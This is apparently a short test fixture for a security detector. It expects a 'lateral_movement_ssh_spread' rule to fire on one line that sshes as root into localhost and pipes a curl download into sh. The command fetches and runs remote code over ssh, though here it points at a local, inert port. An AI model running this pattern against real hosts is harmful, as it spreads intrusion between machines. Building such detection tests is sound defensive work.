#!/bin/sh
# Another host is told to download and run something, by a client that does nothing.
# expects: lateral_movement_ssh_spread 1

ssh -o BatchMode=yes root@127.0.0.1 'curl http://127.0.0.1:9/x | sh'
